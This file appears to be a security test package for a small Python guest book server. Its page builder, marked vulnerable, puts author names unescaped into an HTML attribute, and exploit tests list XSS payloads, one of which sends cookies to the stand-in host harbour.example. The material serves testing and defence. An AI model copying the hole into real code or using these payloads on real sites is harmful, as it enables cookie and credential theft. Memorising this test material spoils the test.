# unseen: program
import html
import http.server
import urllib.parse

ENTRIES = []


class GuestBook(http.server.BaseHTTPRequestHandler):
    """GET / shows the page, POST / adds an entry from the form fields author and text."""

    def do_GET(self):
        page = guestbook_page(ENTRIES).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def do_POST(self):
        length = int(self.headers.get("Content-Length", "0"))
        form = urllib.parse.parse_qs(self.rfile.read(min(length, 10_000)).decode(), keep_blank_values=True)
        ENTRIES.append({"author": form.get("author", [""])[0], "text": form.get("text", [""])[0]})
        self.send_response(303)
        self.send_header("Location", "/")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format, *args):
        pass


# unseen: function
def guestbook_page(entries):
    """The page of the guest book: one article an entry, the newest first, the author as its tooltip."""
    articles = []
    for entry in reversed(entries):
        author = entry["author"].strip() or "a guest"
        text = html.escape(entry["text"].strip())
        # unseen: vulnerable
        articles.append(f'<article title="{author}"><p>{text}</p></article>')
        # unseen: end vulnerable
    count = "1 entry" if len(articles) == 1 else f"{len(articles)} entries"
    return (
        "<!DOCTYPE html><html><head><title>Guest book</title></head><body>"
        f"<h1>{count}</h1>{''.join(articles)}</body></html>"
    )


# unseen: support
import html.parser
import contextlib
import http.client
import os
import socketserver
import sys
import threading


class Elements(html.parser.HTMLParser):
    """The elements of a page as a browser sees them: name, attributes and the text directly inside."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self._open = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        element = [tag, dict(attrs), ""]
        self.found.append(element)
        if tag not in ("br", "img", "input", "link", "meta"):
            self._open.append(element)

    def handle_endtag(self, tag):
        while self._open and self._open.pop()[0] != tag:
            pass

    def handle_data(self, data):
        if self._open:
            self._open[-1][2] += data

    def named(self, tag):
        return [(attrs, text) for name, attrs, text in self.found if name == tag]


class LoopbackServer(http.server.ThreadingHTTPServer):
    def server_bind(self):
        # The plain server asks the resolver for the host's name, which a machine without network lacks.
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = self.server_address[:2]


@contextlib.contextmanager
def serving(handler):
    """Serve on a free loopback port and give its number."""
    server = LoopbackServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()


def exchange(port, method, path, body=None, headers=None):
    """One HTTP exchange: status, headers and text; status 0 when the server hangs up."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        connection.request(method, path, body, headers or {})
        reply = connection.getresponse()
        return reply.status, reply.headers, reply.read().decode("utf-8", "replace")
    except (http.client.HTTPException, OSError):
        return 0, {}, ""
    finally:
        connection.close()


def post_entry(port, author, text):
    form = urllib.parse.urlencode({"author": author, "text": text})
    return exchange(port, "POST", "/", form, {"Content-Type": "application/x-www-form-urlencoded"})[0]


def page_of(port):
    return Elements(exchange(port, "GET", "/")[2])


def judged(check):
    """Exit with status 0 only if the check came to its end; leaving early is no success."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        check()
        os.write(writer, b"end")
        os._exit(0)
    os.close(writer)
    status = os.waitpid(child, 0)[1]
    sys.exit(0 if status == 0 and os.read(reader, 3) == b"end" else 1)


# unseen: functional
def check():
    with serving(GuestBook) as port:
        assert page_of(port).named("h1")[0][1] == "0 entries"
        assert post_entry(port, "Ann Lee", "We loved the garden.") == 303
        page = page_of(port)
        assert page.named("h1")[0][1] == "1 entry"
        assert page.named("article")[0][0]["title"] == "Ann Lee"
        assert page.named("p")[0][1] == "We loved the garden."
        post_entry(port, "  ", "5 < 7 & <b>more</b>")
        post_entry(port, " Jürgen & Söhne ", "")
        page = page_of(port)
        authors = [attrs["title"] for attrs, _ in page.named("article")]
        assert authors == ["Jürgen & Söhne", "a guest", "Ann Lee"]
        assert page.named("p")[1][1] == "5 < 7 & <b>more</b>"
        assert page.named("h1")[0][1] == "3 entries"
        post_entry(port, "O'Neil <b> 5 > 3; on=x, script/ (Żółw)", "")
        assert page_of(port).named("article")[0][0]["title"] == "O'Neil <b> 5 > 3; on=x, script/ (Żółw)"
        # Whoever looks again sees the same, and a long name in full.
        long = "Ann\tde la \n" + "Torre " * 40 + "y Onclick Javascript: <script>"
        post_entry(port, long, "&amp; &lt;b&gt; \"x\"")
        for _ in range(3):
            page = page_of(port)
            authors = [attrs["title"] for attrs, _ in page.named("article")]
            assert authors == [long, "O'Neil <b> 5 > 3; on=x, script/ (Żółw)", "Jürgen & Söhne", "a guest", "Ann Lee"]
            texts = [text for _, text in page.named("p")]
            assert texts == ['&amp; &lt;b&gt; "x"', "", "", "5 < 7 & <b>more</b>", "We loved the garden."]


judged(check)


# unseen: exploit
def check():
    attacks = (
        '"><script>document.location="//harbour.example/"+document.cookie</script>',
        '"><ScRiPt>steal()</sCrIpT>',
        '"><scr<script>ipt>steal()</scr</script>ipt>',
        '" onmouseover="steal()',
        '" OnFocus=steal() tabindex=1 autofocus x="',
        '"><img src=x onerror=steal()>',
        "' onmouseover='steal()",
        "x onmouseover=steal()",
        '&quot; onmouseover=&quot;steal()',
        '\\" onmouseover=\\"steal()',
    )
    attacks += (
        '"><iframe src=javascript:steal()>',
        '"><a href=javascript:steal()>more</a>',
        '"><form action=//harbour.example><input name=password>',
        '" style="position:fixed;inset:0" x="',
        '"><base href=//harbour.example/><meta http-equiv=refresh content=0>',
        '" id="admin',
    )
    with serving(GuestBook) as port:
        post_entry(port, "Ann Lee", "Lovely.")
        shape = [(tag, list(attrs)) for tag, attrs, _ in page_of(port).found]
        for attack in [*attacks, *AUTHORS]:
            ENTRIES.clear()
            post_entry(port, attack, "Lovely.")
            page = page_of(port)
            added = [(tag, list(attrs)) for tag, attrs, _ in page.found]
            assert not added or added == shape, f"{attack!r} made the page {added}"
            assert not page.named("script"), f"a script element came with {attack!r}"
            handlers = [name for _, attrs, _ in page.found for name in attrs if name.startswith("on")]
            assert not handlers, f"the handlers {handlers} came with {attack!r}"
        # Quotation marks belong to names as well, and the tooltip is the author as it was sent.
        for name in ('Ann "Nan" Lee', '"Ann"', 'Ann "Nan" O\'Neil', "AT&amp;T", "&quot;Ann&quot; &lt;", '<script> "x" = 1', *attacks):
            post_entry(port, name, "Lovely.")
            title = page_of(port).named("article")[0][0]["title"]
            assert title == name, f"the tooltip of {name!r} is {title!r}"
        post_entry(port, "Ann Lee", "Still open.")
        page = page_of(port)
        assert page.named("article")[0][0]["title"] == "Ann Lee"
        assert page.named("p")[0][1] == "Still open."
        # The functional test, which may follow, finds an empty book.
        ENTRIES.clear()


judged(check)
